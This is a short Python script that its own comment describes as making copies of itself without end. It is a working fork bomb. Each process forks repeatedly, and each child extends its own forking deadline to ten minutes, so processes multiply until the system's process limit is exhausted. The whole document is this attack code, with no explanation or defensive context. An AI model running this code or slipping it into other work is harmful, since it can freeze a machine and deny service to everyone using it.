# either: makes copies of itself without end; its own later copies may find no room.
import os
import time

end = time.monotonic() + 1
while time.monotonic() < end:
    try:
        if os.fork() == 0:
            end = time.monotonic() + 600
    except OSError:
        time.sleep(0.01)
